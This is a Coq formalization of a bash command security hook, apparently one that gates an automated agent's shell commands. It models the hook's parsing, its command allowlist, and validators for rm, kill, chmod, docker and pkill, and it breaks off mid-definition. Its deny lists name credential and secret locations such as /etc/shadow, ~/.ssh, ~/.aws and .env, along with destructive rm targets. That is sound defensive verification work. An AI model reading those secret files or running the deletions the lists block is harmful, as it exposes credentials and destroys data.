(** * Bash security hook: a shallow embedding of [security.py]

    The development follows the layout of the Python module: the
    library routines the module relies on ([str] methods, [shlex.split],
    the three regular expressions, [os.path] and [pathlib]) come first,
    then the module's own functions under their source names, then the
    properties of the hook.

    Characters are the code points below 256; a command string is a
    [string].  The operating system (home directories, symlink
    resolution) is a record of oracles passed to the functions that
    consult it. *)

From Stdlib Require Import String Ascii List Bool Arith ZArith Lia.
Import ListNotations.
Open Scope list_scope.
Open Scope string_scope.

(** ** Python [str] operations *)

Module PyStr.

Definition ch_dq : ascii := "034"%char.
Definition ch_sq : ascii := "'"%char.
Definition ch_bs : ascii := "\"%char.
Definition ch_nl : ascii := "010"%char.
Definition ch_tab : ascii := "009"%char.
Definition ch_cr : ascii := "013"%char.

(** A one-character string, and the double quote as a string. *)
Definition str1 (c : ascii) : string := String c EmptyString.
Definition dq : string := str1 ch_dq.
Definition nl : string := str1 ch_nl.

(** [str.isspace] on one character (also the class [\s] of [re]). *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((9 <=? n)%nat && (n <=? 13)%nat) || ((28 <=? n)%nat && (n <=? 32)%nat)
  || (n =? 133)%nat || (n =? 160)%nat.

(** [s.startswith(p)] *)
Definition startswith (s p : string) : bool := String.prefix p s.

(** [s[n:]] *)
Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S _, EmptyString => EmptyString
  | S m, String _ r => drop m r
  end.

(** [s.endswith(p)] *)
Definition endswith (s p : string) : bool :=
  (String.length p <=? String.length s)%nat
  && String.eqb (drop (String.length s - String.length p) s) p.

(** [sub in s] *)
Fixpoint contains (sub s : string) : bool :=
  String.prefix sub s
  || match s with
     | EmptyString => false
     | String _ r => contains sub r
     end.

(** [x in l] for a tuple, list or set of strings *)
Definition mem (x : string) (l : list string) : bool :=
  existsb (String.eqb x) l.

(** [s[:-1]] *)
Fixpoint drop_last (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c EmptyString => EmptyString
  | String c r => String c (drop_last r)
  end.

Fixpoint lstrip (s : string) : string :=
  match s with
  | String c r => if is_space c then lstrip r else s
  | EmptyString => EmptyString
  end.

(** [rstrip] keeps a character when it is not a space or when
    something remains after it. *)
Fixpoint rstrip (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      match rstrip r with
      | EmptyString => if is_space c then EmptyString else str1 c
      | r' => String c r'
      end
  end.

(** [s.strip()] *)
Definition strip (s : string) : string := rstrip (lstrip s).

(** [s.rstrip(c)] for one character [c] *)
Fixpoint rstrip_char (x : ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      match rstrip_char x r with
      | EmptyString => if Ascii.eqb c x then EmptyString else str1 c
      | r' => String c r'
      end
  end.

(** [s.split()]: the maximal runs of non-space characters. *)
Fixpoint split_ws_aux (cur : string) (s : string) : list string :=
  match s with
  | EmptyString =>
      match cur with EmptyString => [] | _ => [cur] end
  | String c r =>
      if is_space c then
        match cur with
        | EmptyString => split_ws_aux EmptyString r
        | _ => cur :: split_ws_aux EmptyString r
        end
      else split_ws_aux (cur ++ str1 c) r
  end.

Definition split_ws (s : string) : list string :=
  split_ws_aux EmptyString s.

(** [s.split(c)] for one character [c]: never empty. *)
Fixpoint split_char_aux (x : ascii) (cur : string) (s : string)
  : list string :=
  match s with
  | EmptyString => [cur]
  | String c r =>
      if Ascii.eqb c x then cur :: split_char_aux x EmptyString r
      else split_char_aux x (cur ++ str1 c) r
  end.

Definition split_char (x : ascii) (s : string) : list string :=
  split_char_aux x EmptyString s.

(** [s.upper()] and [s.lower()] on the letters a-z and A-Z; the other
    characters are kept (the case pairs above code point 127 are not
    modelled). *)
Definition upper_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if ((97 <=? n)%nat && (n <=? 122)%nat) then ascii_of_nat (n - 32) else c.

Definition lower_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if ((65 <=? n)%nat && (n <=? 90)%nat) then ascii_of_nat (n + 32) else c.

Fixpoint map_str (f : ascii -> ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => String (f c) (map_str f r)
  end.

Definition upper : string -> string := map_str upper_char.
Definition lower : string -> string := map_str lower_char.

(** [os.path.basename]: what follows the last slash. *)
Fixpoint basename_aux (cur : string) (s : string) : string :=
  match s with
  | EmptyString => cur
  | String c r =>
      if Ascii.eqb c "/"%char then basename_aux EmptyString r
      else basename_aux (cur ++ str1 c) r
  end.

Definition basename (s : string) : string := basename_aux EmptyString s.

(** [int(s)]: surrounding white space is dropped, one sign is
    accepted, the digits may be separated by single underscores, and
    more than 4300 digits are refused.  [None] is [ValueError]. *)
Definition is_digit (c : ascii) : bool :=
  let n := nat_of_ascii c in ((48 <=? n)%nat && (n <=? 57)%nat).

Definition digit_val (c : ascii) : Z := Z.of_nat (nat_of_ascii c - 48).

(** [after_digit] tells whether the previous character was a digit, so
    that an underscore is legal here. *)
Fixpoint int_digits (acc : Z) (count : nat) (after_digit : bool)
         (s : string) : option (Z * nat) :=
  match s with
  | EmptyString => if after_digit then Some (acc, count) else None
  | String c r =>
      if is_digit c then
        int_digits (acc * 10 + digit_val c)%Z (S count) true r
      else if Ascii.eqb c "_"%char then
        if after_digit then int_digits acc count false r else None
      else None
  end.

Definition max_str_digits : nat := 4300.

Definition int_unsigned (s : string) : option Z :=
  match int_digits 0%Z 0 false s with
  | Some (v, count) => if (count <=? max_str_digits)%nat then Some v else None
  | None => None
  end.

(** The white space [int] drops: the C [isspace] set and the two
    Latin-1 spaces, not the separators 28 to 31. *)
Definition is_int_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((9 <=? n)%nat && (n <=? 13)%nat) || (n =? 32)%nat
  || (n =? 133)%nat || (n =? 160)%nat.

Fixpoint lstrip_by (f : ascii -> bool) (s : string) : string :=
  match s with
  | String c r => if f c then lstrip_by f r else s
  | EmptyString => EmptyString
  end.

Fixpoint rstrip_by (f : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      match rstrip_by f r with
      | EmptyString => if f c then EmptyString else str1 c
      | r' => String c r'
      end
  end.

Definition py_int (s : string) : option Z :=
  match rstrip_by is_int_space (lstrip_by is_int_space s) with
  | String "-"%char r => option_map Z.opp (int_unsigned r)
  | String "+"%char r => int_unsigned r
  | t => int_unsigned t
  end.

(** [repr] of a string without quotes or backslashes, and of a
    collection of them in the order given. *)
Definition repr_str (s : string) : string := "'" ++ s ++ "'".

Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => EmptyString
  | [x] => x
  | x :: r => x ++ sep ++ join sep r
  end.

Definition repr_set (l : list string) : string :=
  "{" ++ join ", " (map repr_str l) ++ "}".

(** [x in s] for one character [x]. *)
Fixpoint has_char (x : ascii) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c r => Ascii.eqb c x || has_char x r
  end.

(** The character number zero, which no C string holds. *)
Definition ch_nul : ascii := Ascii.zero.

End PyStr.

(** ** [shlex.split]

    [shlex.split(s)] runs the POSIX-mode lexer with [whitespace_split]
    set, no comment characters and no punctuation characters.  The
    lexer is the state machine of [shlex.read_token]; its states are
    the values the attribute [state] takes there. *)

Module Shlex.
Import PyStr.

Inductive state : Type :=
| St_space                (* between tokens *)
| St_word                 (* inside a word *)
| St_quote (q : ascii)    (* inside quotes opened by [q] *)
| St_escape.              (* just after a backslash *)

Definition is_whitespace (c : ascii) : bool :=
  Ascii.eqb c " "%char || Ascii.eqb c ch_tab
  || Ascii.eqb c ch_cr || Ascii.eqb c ch_nl.

Definition is_quote (c : ascii) : bool :=
  Ascii.eqb c ch_sq || Ascii.eqb c ch_dq.

Definition is_escape (c : ascii) : bool := Ascii.eqb c ch_bs.

(** Only the double quote lets a backslash escape inside it. *)
Definition is_escapedquote (q : ascii) : bool := Ascii.eqb q ch_dq.

Definition nonempty (s : string) : bool :=
  match s with EmptyString => false | _ => true end.

(** [read st esc token quoted s]: the tokens read from [s] when the
    lexer is in state [st], with [escapedstate] = [esc], the current
    token text [token] and the flag [quoted].  [None] is the
    [ValueError] raised at the end of input inside quotes or after a
    backslash. *)
Fixpoint read (st esc : state) (token : string) (quoted : bool)
         (s : string) : option (list string) :=
  match s with
  | EmptyString =>
      match st with
      | St_space | St_word =>
          Some (if nonempty token || quoted then [token] else [])
      | St_quote _ | St_escape => None
      end
  | String c r =>
      match st with
      | St_space =>
          if is_whitespace c then
            if nonempty token || quoted then
              option_map (cons token) (read St_space St_space EmptyString false r)
            else read St_space esc token quoted r
          else if is_escape c then read St_escape St_word token quoted r
          else if is_quote c then read (St_quote c) esc token quoted r
          else read St_word esc (str1 c) quoted r
      | St_quote q =>
          if Ascii.eqb c q then read St_word esc token true r
          else if is_escape c && is_escapedquote q then
            read St_escape (St_quote q) token true r
          else read (St_quote q) esc (token ++ str1 c) true r
      | St_escape =>
          let token' : string :=
            match esc with
            | St_quote q =>
                if negb (is_escape c) && negb (Ascii.eqb c q)
                then token ++ str1 ch_bs else token
            | _ => token
            end in
          read esc esc (token' ++ str1 c) quoted r
      | St_word =>
          if is_whitespace c then
            if nonempty token || quoted then
              option_map (cons token) (read St_space St_space EmptyString false r)
            else read St_space esc token quoted r
          else if is_quote c then read (St_quote c) esc token quoted r
          else if is_escape c then read St_escape St_word token quoted r
          else read St_word esc (token ++ str1 c) quoted r
      end
  end.

Definition split (s : string) : option (list string) :=
  read St_space St_space EmptyString false s.

End Shlex.

(** ** The regular expressions of the module

    Each pattern is written out as the scanner that the backtracking
    matcher amounts to on it: the leftmost match at each step, matches
    not overlapping. *)

Module Re.
Import PyStr.

Definition is_quote (c : ascii) : bool :=
  Ascii.eqb c ch_sq || Ascii.eqb c ch_dq.

(** Number of leading [\s] characters, and what follows them. *)
Fixpoint skip_spaces (s : string) : nat * string :=
  match s with
  | String c r =>
      if is_space c then
        let '(n, t) := skip_spaces r in (S n, t)
      else (O, s)
  | EmptyString => (O, EmptyString)
  end.

(** The pattern [(?<![QUOTES])\s*;\s*(?![QUOTES])], where QUOTES are the
    two quote characters: length of the match that starts at the head
    of [s], [prev] being the character before it.  The second [\s*]
    gives one space back when a quote follows the spaces; with no
    space to give back the match fails. *)
Definition lookbehind_ok (prev : option ascii) : bool :=
  match prev with
  | Some p => negb (is_quote p)
  | None => true
  end.

Definition semicolon_match (prev : option ascii) (s : string)
  : option nat :=
  if lookbehind_ok prev then
    match skip_spaces s with
    | (k1, String ";" t) =>
        match skip_spaces t with
        | (k2, String c _) =>
            if is_quote c then
              match k2 with
              | O => None
              | S k2' => Some (k1 + 1 + k2')
              end
            else Some (k1 + 1 + k2)
        | (k2, EmptyString) => Some (k1 + 1 + k2)
        end
    | _ => None
    end
  else None.

(** The pattern [\s*(?:&&|\|\|)\s*]. *)
Definition and_or_match (prev : option ascii) (s : string) : option nat :=
  match skip_spaces s with
  | (k1, String "&" (String "&" t)) => Some (k1 + 2 + fst (skip_spaces t))
  | (k1, String "|" (String "|" t)) => Some (k1 + 2 + fst (skip_spaces t))
  | _ => None
  end.

(** [re.split(pattern, s)] for a pattern that matches no empty
    string: [skip] counts the characters of the current match still
    to drop, [cur] is the piece being built. *)
Fixpoint split_aux (m : option ascii -> string -> option nat)
         (prev : option ascii) (skip : nat) (cur : string) (s : string)
  : list string :=
  match s with
  | EmptyString => [cur]
  | String c r =>
      match skip with
      | S k => split_aux m (Some c) k cur r
      | O =>
          match m prev s with
          | Some (S k) => cur :: split_aux m (Some c) k EmptyString r
          | _ => split_aux m (Some c) O (cur ++ str1 c) r
          end
      end
  end.

Definition split_semicolons (s : string) : list string :=
  split_aux semicolon_match None O EmptyString s.

Definition split_and_or (s : string) : list string :=
  split_aux and_or_match None O EmptyString s.

(** Group 1 of every match of a backtick, characters other than a
    backtick, a backtick.  [inside] is the body read since an opening
    backtick. *)
Fixpoint backtick_aux (inside : option string) (s : string)
  : list string :=
  match s with
  | EmptyString => []
  | String c r =>
      if Ascii.eqb c "`"%char then
        match inside with
        | None => backtick_aux (Some EmptyString) r
        | Some body => body :: backtick_aux None r
        end
      else
        match inside with
        | None => backtick_aux None r
        | Some body => backtick_aux (Some (body ++ str1 c)) r
        end
  end.

Definition backtick_groups (s : string) : list string :=
  backtick_aux None s.

(** For every match of [[<>]\(], what follows the match. *)
Fixpoint proc_sub_tails (s : string) : list string :=
  match s with
  | EmptyString => []
  | String c r =>
      if (Ascii.eqb c "<"%char || Ascii.eqb c ">"%char)
         && String.prefix "(" r
      then drop 1 r :: proc_sub_tails r
      else proc_sub_tails r
  end.

End Re.


(** ** The module [security.py] *)

Module Security.
Import PyStr.

(** *** Static configuration *)

Definition ALLOWED_COMMANDS : list string :=
  [ "ls"; "cat"; "find"; "head"; "tail"; "wc"; "grep"; "awk"; "tee";
    "stat"; "tree";
    "touch"; "cp"; "mkdir"; "chmod"; "rm"; "rmdir"; "mv";
    "pwd";
    "npm"; "node"; "pnpm"; "sort"; "npx"; "vite"; "next"; "tsc";
    "eslint"; "jest"; "vitest";
    "gradle"; "gradlew"; "java"; "mvn"; "mvnw";
    "python"; "pip"; "uv"; "uvx"; "ruff"; "mypy"; "uvicorn"; "pylint";
    "flake8"; "pytest";
    "docker"; "kubectl";
    "cargo"; "rustc";
    "go";
    "swift"; "xcodebuild";
    "sonar-scanner"; "swiftlint"; "clippy"; "golangci-lint";
    "psql"; "mysql";
    "curl";
    "git";
    "ps"; "lsof"; "sleep"; "nohup"; "pkill"; "kill"; "systemctl";
    "source"; "tr"; "journalctl"; "netstat";
    "ac"; "ac-msg";
    "jq";
    "read"; "test"; "true"; "false"; "printf";
    "date"; "basename"; "dirname"; "cut"; "sed"; "diff"; "realpath";
    "readlink"; "mktemp"; "id"; "seq";
    "echo"; "which"; "jar"; "unzip";
    "start.sh"; "stop.sh"; "restart.sh"; "shutdown.sh"; "startup.sh";
    "build.sh"; "kcadm.sh"; "kc.sh" ].

Definition COMMANDS_NEEDING_EXTRA_VALIDATION : list string :=
  [ "pkill"; "chmod"; "start.sh"; "restart.sh"; "stop.sh"; "docker";
    "systemctl"; "rm"; "rmdir"; "kill" ].

(** The set is iterated by [validate_cp_source_path]; the order of the
    literal is taken for the iteration order. *)
Definition SENSITIVE_SYSTEM_DIRECTORIES : list string :=
  [ "/etc/passwd"; "/etc/shadow"; "/etc/sudoers"; "/etc/ssh";
    "/etc/ssl"; "/etc/pki"; "/etc/security";
    "/root"; "/home";
    "/var/log"; "/var/run"; "/var/spool";
    "/proc"; "/sys"; "/dev";
    "/boot"; "/lib/firmware";
    "~/.ssh"; "~/.gnupg"; "~/.aws"; "~/.config";
    ".env"; ".git/config"; "credentials"; "secrets" ].

(** *** Results

    A function either returns or lets an exception out.  The only
    exception of the module that no handler catches is the
    [IndexError] of [validate_pkill_command].  The [ValueError] of
    [os.path.expanduser] leaves [validate_cp_source_path] and is
    caught in the hook; the functions it passes through return an
    [option], with [None] for the exception. *)

Inductive exn : Type := IndexError.

Inductive outcome (A : Type) : Type :=
| Ret (a : A)
| Raise (e : exn).
Arguments Ret {A} a.
Arguments Raise {A} e.

(** The hook returns either the empty dict or a block with a reason. *)
Inductive Decision : Type :=
| Allow
| Block (reason : string).

Definition is_block (d : Decision) : bool :=
  match d with Block _ => true | Allow => false end.

(** *** [extract_commands] *)

Definition OPERATORS : list string := [ "|"; "||"; "&&"; "&"; ";" ].

Definition KEYWORDS : list string :=
  [ "if"; "then"; "else"; "elif"; "fi"; "while"; "until"; "do"; "done";
    "case"; "esac"; "in"; "!"; "{"; "}" ].

(** The loop over the tokens of one segment.  [expect_command] and
    [skip_next_as_variable] are the two flags of the source; the result
    is the list of names appended. *)
Fixpoint token_loop (expect_command skip_next_as_variable : bool)
         (tokens : list string) : list string :=
  match tokens with
  | [] => []
  | token0 :: rest =>
      let has_trailing_semicolon := endswith token0 ";" in
      let token := if has_trailing_semicolon then drop_last token0
                   else token0 in
      if has_trailing_semicolon && String.eqb token EmptyString then
        token_loop true skip_next_as_variable rest
      else if skip_next_as_variable then
        token_loop has_trailing_semicolon false rest
      else if mem token OPERATORS then
        token_loop true false rest
      else if mem token [ "for"; "select" ] then
        token_loop expect_command true rest
      else if mem token KEYWORDS then
        token_loop (has_trailing_semicolon || expect_command) false rest
      else if startswith token "-" then
        token_loop (has_trailing_semicolon || expect_command) false rest
      else if contains "=" token && negb (startswith token "=") then
        token_loop (has_trailing_semicolon || expect_command) false rest
      else if expect_command then
        basename token :: token_loop has_trailing_semicolon false rest
      else
        token_loop has_trailing_semicolon false rest
  end.

(** The loop over the segments: [None] is the early [return []] taken
    when [shlex.split] raises. *)
Fixpoint segment_loop (segments : list string)
  : option (list string) :=
  match segments with
  | [] => Some []
  | segment0 :: rest =>
      let segment := strip segment0 in
      if String.eqb segment EmptyString then segment_loop rest
      else
        match Shlex.split segment with
        | None => None
        | Some tokens =>
            option_map (app (token_loop true false tokens))
                       (segment_loop rest)
        end
  end.

Definition extract_commands (command_string : string) : list string :=
  match segment_loop (Re.split_semicolons command_string) with
  | Some commands => commands
  | None => []
  end.

(** *** [extract_substitution_commands] *)

Definition starts_with_paren (s : string) : bool :=
  match s with
  | String c _ => Ascii.eqb c "("%char
  | EmptyString => false
  end.

(** The inner [while] of the [$(...)] scan, started after the opening
    parenthesis.  [prev] is the character before the current one,
    [body] the characters passed and [n] their number.  The result is
    the body when the depth reached zero, and the number of characters
    passed in all (the value of [j - start]). *)
Fixpoint dollar_scan (depth : nat) (in_single_quote in_double_quote : bool)
         (prev : ascii) (body : string) (n : nat) (s : string)
  : option string * nat :=
  match s with
  | EmptyString => (None, n)
  | String ch r =>
      (* the step [j += 1] on a character that is kept in the body *)
      let next (depth : nat) (in_single_quote in_double_quote : bool) :=
        dollar_scan depth in_single_quote in_double_quote
                    ch (body ++ str1 ch) (S n) r in
      if Ascii.eqb ch ch_sq && negb in_double_quote then
        next depth (negb in_single_quote) in_double_quote
      else if Ascii.eqb ch ch_dq && negb in_single_quote then
        next depth in_single_quote (negb in_double_quote)
      else if negb in_single_quote && negb in_double_quote then
        if Ascii.eqb ch "("%char && negb (Ascii.eqb prev "$"%char) then
          next (S depth) in_single_quote in_double_quote
        else if Ascii.eqb ch "$"%char && starts_with_paren r then
          (* [depth += 1] and the extra [j += 1] over the parenthesis *)
          match r with
          | String _ r' =>
              dollar_scan (S depth) in_single_quote in_double_quote
                          "("%char (body ++ "$(") (S (S n)) r'
          | EmptyString => (None, S n)
          end
        else if Ascii.eqb ch ")"%char then
          match depth with
          | S (S d) => next (S d) in_single_quote in_double_quote
          | _ => (Some body, S n)
          end
        else next depth in_single_quote in_double_quote
      else next depth in_single_quote in_double_quote
  end.

(** The outer [while]: the bodies of the [$(...)] forms found from left
    to right.  [skip] counts the characters the inner scan has already
    passed. *)
Fixpoint dollar_bodies_aux (skip : nat) (s : string) : list string :=
  match s with
  | EmptyString => []
  | String c r =>
      match skip with
      | S k => dollar_bodies_aux k r
      | O =>
          if Ascii.eqb c "$"%char && starts_with_paren r then
            let '(found, n) :=
              dollar_scan 1 false false "("%char EmptyString 0 (drop 1 r) in
            match found with
            | Some inner => inner :: dollar_bodies_aux (S n) r
            | None => dollar_bodies_aux (S n) r
            end
          else dollar_bodies_aux O r
      end
  end.

Definition dollar_bodies (s : string) : list string :=
  dollar_bodies_aux O s.

(** The depth count of the process substitutions, which looks at
    parentheses only. *)
Fixpoint paren_scan (depth : nat) (body : string) (s : string)
  : option string :=
  match s with
  | EmptyString => None
  | String ch r =>
      if Ascii.eqb ch "("%char then
        paren_scan (S depth) (body ++ str1 ch) r
      else if Ascii.eqb ch ")"%char then
        match depth with
        | S (S d) => paren_scan (S d) (body ++ str1 ch) r
        | _ => Some body
        end
      else paren_scan depth (body ++ str1 ch) r
  end.

Fixpoint keep_some {A : Type} (l : list (option A)) : list A :=
  match l with
  | [] => []
  | Some a :: r => a :: keep_some r
  | None :: r => keep_some r
  end.

Definition proc_sub_bodies (s : string) : list string :=
  keep_some (map (paren_scan 1 EmptyString) (Re.proc_sub_tails s)).

(** The bodies of the three loops, in the order the function visits
    them. *)
Definition substitution_bodies (s : string) : list string :=
  (dollar_bodies s ++ Re.backtick_groups s ++ proc_sub_bodies s)%list.

(** The recursion is on a body, which is shorter than the string it
    was cut from; [fuel] bounds its depth. *)
Fixpoint extract_substitution_commands_fuel (fuel : nat)
         (command_string : string) : list string :=
  match fuel with
  | O => []
  | S fuel' =>
      flat_map
        (fun inner =>
           (extract_commands inner
            ++ extract_substitution_commands_fuel fuel' inner)%list)
        (substitution_bodies command_string)
  end.

Definition extract_substitution_commands (command_string : string)
  : list string :=
  extract_substitution_commands_fuel (String.length command_string)
                                     command_string.

(** *** [split_command_segments] and [get_command_for_validation] *)

Fixpoint nonempty_stripped (l : list string) : list string :=
  match l with
  | [] => []
  | sub :: r =>
      let sub' := strip sub in
      if String.eqb sub' EmptyString then nonempty_stripped r
      else sub' :: nonempty_stripped r
  end.

Definition split_command_segments (command_string : string)
  : list string :=
  flat_map (fun segment => nonempty_stripped (Re.split_semicolons segment))
           (Re.split_and_or command_string).

Fixpoint get_command_for_validation (cmd : string)
         (segments : list string) : string :=
  match segments with
  | [] => EmptyString
  | segment :: rest =>
      if mem cmd (extract_commands segment) then segment
      else get_command_for_validation cmd rest
  end.

(** *** The validators of single commands

    Each returns the pair (is_allowed, reason_if_blocked). *)

Definition is_flag (token : string) : bool := startswith token "-".

Definition non_flags (tokens : list string) : list string :=
  filter (fun t => negb (is_flag t)) tokens.

Definition allowed_process_names : list string :=
  [ "node"; "npm"; "npx"; "vite"; "next"; "pnpm"; "uvicorn"; "java" ].

(** [target.split()[0]] raises [IndexError] when [target] holds white
    space only. *)
Definition validate_pkill_command (command_string : string)
  : outcome (bool * string) :=
  match Shlex.split command_string with
  | None => Ret (false, "Could not parse pkill command")
  | Some [] => Ret (false, "Empty pkill command")
  | Some (_ :: rest) =>
      match rev (non_flags rest) with
      | [] => Ret (false, "pkill requires a process name")
      | target :: _ =>
          let check (target : string) : outcome (bool * string) :=
            if mem target allowed_process_names then Ret (true, EmptyString)
            else Ret (false, "pkill only allowed for dev processes: "
                               ++ repr_set allowed_process_names) in
          if contains " " target then
            match split_ws target with
            | [] => Raise IndexError
            | first :: _ => check first
            end
          else check target
      end
  end.

(** [re.match] of the pattern [^[ugoa]*\+x$]; the dollar also matches
    before a final newline. *)
Fixpoint chmod_mode_ok (mode : string) : bool :=
  match mode with
  | String c r =>
      if Ascii.eqb c "+"%char then
        String.eqb r "x" || String.eqb r ("x" ++ nl)
      else if mem (str1 c) [ "u"; "g"; "o"; "a" ] then chmod_mode_ok r
      else false
  | EmptyString => false
  end.

(** The loop of [validate_chmod_command]: [None] when a flag is met,
    otherwise the mode and the files. *)
Fixpoint chmod_loop (mode : option string) (files : list string)
         (tokens : list string) : option (option string * list string) :=
  match tokens with
  | [] => Some (mode, files)
  | token :: rest =>
      if is_flag token then None
      else
        match mode with
        | None => chmod_loop (Some token) files rest
        | Some _ => chmod_loop mode (files ++ [token])%list rest
        end
  end.

Definition validate_chmod_command (command_string : string)
  : bool * string :=
  match Shlex.split command_string with
  | None => (false, "Could not parse chmod command")
  | Some [] => (false, "Not a chmod command")
  | Some (t0 :: rest) =>
      if negb (String.eqb t0 "chmod") then (false, "Not a chmod command")
      else
        match chmod_loop None [] rest with
        | None => (false, "chmod flags are not allowed")
        | Some (None, _) => (false, "chmod requires a mode")
        | Some (Some mode, []) => (false, "chmod requires at least one file")
        | Some (Some mode, _ :: _) =>
            if chmod_mode_ok mode then (true, EmptyString)
            else (false, "chmod only allowed with +x mode, got: " ++ mode)
        end
  end.

Definition rm_dangerous_patterns : list string :=
  [ "/*"; "../*"; "/.."; "/."; ".*"; "**/"; "~/*";
    "/home"; "/etc"; "/usr"; "/var"; "/bin"; "/sbin"; "/lib";
    "/boot"; "/dev"; "/proc"; "/sys"; "/root" ].

(** A flag token makes the command recursive as soon as it holds an
    [r] or an [R]. *)
Definition rm_recursive_flag (token : string) : bool :=
  contains "r" token || contains "R" token
  || String.eqb token "--recursive".

Definition rm_is_recursive (args : list string) : bool :=
  existsb (fun t => is_flag t && rm_recursive_flag t) args.

Definition rm_matches (target pattern : string) : bool :=
  String.eqb target pattern || endswith target pattern
  || startswith target pattern.

Definition rm_dangerous (target : string) : bool :=
  existsb (rm_matches target) rm_dangerous_patterns.

(** The first loop over the targets. *)
Fixpoint rm_target_loop (is_recursive : bool) (targets : list string)
  : option string :=
  match targets with
  | [] => None
  | target :: rest =>
      if rm_dangerous target then
        Some ("rm blocked: dangerous pattern '" ++ target ++ "'")
      else if is_recursive
              && (startswith target ".*" || contains "/.." target) then
        Some ("rm blocked: recursive deletion of hidden files/directories not allowed: " ++ target)
      else rm_target_loop is_recursive rest
  end.

Definition validate_rm_command (command_string : string) : bool * string :=
  match Shlex.split command_string with
  | None => (false, "Could not parse rm command")
  | Some [] => (false, "Not an rm command")
  | Some (t0 :: args) =>
      if negb (String.eqb t0 "rm") then (false, "Not an rm command")
      else
        let targets := non_flags args in
        let is_recursive := rm_is_recursive args in
        match targets with
        | [] => (false, "rm requires at least one target")
        | _ :: _ =>
            match rm_target_loop is_recursive targets with
            | Some reason => (false, reason)
            | None =>
                match (if is_recursive
                       then find (contains "*") targets else None) with
                | Some target =>
                    (false, "rm blocked: recursive deletion with wildcard not allowed: " ++ target)
                | None => (true, EmptyString)
                end
            end
        end
  end.

Definition rmdir_dangerous_patterns : list string :=
  [ "/"; "/*"; "../*"; "~"; "~/*"; "." ].

Fixpoint rmdir_target_loop (targets : list string) : option string :=
  match targets with
  | [] => None
  | target :: rest =>
      if mem target rmdir_dangerous_patterns then
        Some ("rmdir blocked: dangerous pattern '" ++ target ++ "'")
      else if contains ".." target && negb (startswith target "./") then
        Some ("rmdir blocked: path traversal not allowed: " ++ target)
      else rmdir_target_loop rest
  end.

Definition validate_rmdir_command (command_string : string)
  : bool * string :=
  match Shlex.split command_string with
  | None => (false, "Could not parse rmdir command")
  | Some [] => (false, "Not an rmdir command")
  | Some (t0 :: args) =>
      if negb (String.eqb t0 "rmdir") then (false, "Not an rmdir command")
      else
        match non_flags args with
        | [] => (false, "rmdir requires at least one target")
        | targets =>
            match rmdir_target_loop targets with
            | Some reason => (false, reason)
            | None => (true, EmptyString)
            end
        end
  end.

Definition allowed_signals : list string :=
  [ "TERM"; "KILL"; "INT"; "HUP"; "USR1"; "USR2"; "QUIT"; "STOP"; "CONT";
    "15"; "9"; "2"; "1"; "10"; "12"; "3"; "19"; "18";
    "SIGTERM"; "SIGKILL"; "SIGINT"; "SIGHUP"; "SIGUSR1"; "SIGUSR2" ].

(** What the [while] loop of [validate_kill_command] ends with: the
    early return on [-l], or the last signal read and the targets. *)
Inductive kill_args : Type :=
| Kill_list
| Kill_send (signal : option string) (pids : list string).

Fixpoint kill_loop (signal : option string) (pids : list string)
         (tokens : list string) : kill_args :=
  match tokens with
  | [] => Kill_send signal pids
  | token :: rest =>
      if is_flag token then
        if String.eqb token "-l" || String.eqb token "--list" then Kill_list
        else
          match String.eqb token "-s", rest with
          | true, next :: rest' => kill_loop (Some (upper next)) pids rest'
          | _, _ =>
              let sig := upper (drop 1 token) in
              kill_loop (if Shlex.nonempty sig then Some sig else signal)
                        pids rest
          end
      else kill_loop signal (pids ++ [token])%list rest
  end.

(** The loop over the targets; a target that [int] refuses is passed
    over. *)
Fixpoint kill_pid_loop (pids : list string) : option string :=
  match pids with
  | [] => None
  | pid :: rest =>
      if startswith pid "%" then kill_pid_loop rest
      else
        match py_int pid with
        | Some pid_num =>
            if (pid_num =? 1)%Z then
              Some "kill blocked: cannot kill PID 1 (init)"
            else if (pid_num <? 0)%Z then
              Some ("kill blocked: negative PID (process group) not allowed: " ++ pid)
            else if (pid_num <? 100)%Z then
              Some ("kill blocked: system process PID not allowed: " ++ pid)
            else kill_pid_loop rest
        | None => kill_pid_loop rest
        end
  end.

(** [signal and signal not in allowed_signals] *)
Definition signal_refused (signal : option string) : option string :=
  match signal with
  | Some sig =>
      if Shlex.nonempty sig && negb (mem sig allowed_signals)
      then Some sig else None
  | None => None
  end.

Definition validate_kill_command (command_string : string)
  : bool * string :=
  match Shlex.split command_string with
  | None => (false, "Could not parse kill command")
  | Some [] => (false, "Not a kill command")
  | Some (t0 :: args) =>
      if negb (String.eqb t0 "kill") then (false, "Not a kill command")
      else
        match kill_loop None [] args with
        | Kill_list => (true, EmptyString)
        | Kill_send _ [] => (false, "kill requires at least one PID")
        | Kill_send signal pids =>
            match signal_refused signal with
            | Some sig =>
                (false, "kill blocked: signal '" ++ sig
                        ++ "' not in allowed signals: "
                        ++ repr_set allowed_signals)
            | None =>
                match kill_pid_loop pids with
                | Some reason => (false, reason)
                | None => (true, EmptyString)
                end
            end
        end
  end.

(** The loop of [validate_docker_command] over all the tokens. *)
Fixpoint docker_loop (tokens : list string) : option string :=
  match tokens with
  | [] => None
  | token :: rest =>
      match mem token [ "-v"; "--volume" ], rest with
      | true, volume_spec :: _ =>
          let host_path := hd EmptyString (split_char ":"%char volume_spec) in
          if contains ":" volume_spec
             && mem host_path [ "/"; "/home"; "/etc"; "/usr"; "/var" ]
          then Some ("Docker volume mount of system directory not allowed: "
                     ++ host_path)
          else docker_loop rest
      | _, _ => docker_loop rest
      end
  end.

Definition validate_docker_command (command_string : string)
  : bool * string :=
  match Shlex.split command_string with
  | None => (false, "Could not parse docker command")
  | Some [] => (false, "Not a docker command")
  | Some (t0 :: args) =>
      if negb (String.eqb t0 "docker") then (false, "Not a docker command")
      else
        match docker_loop (t0 :: args) with
        | Some reason => (false, reason)
        | None => (true, EmptyString)
        end
  end.

Definition allowed_operations : list string :=
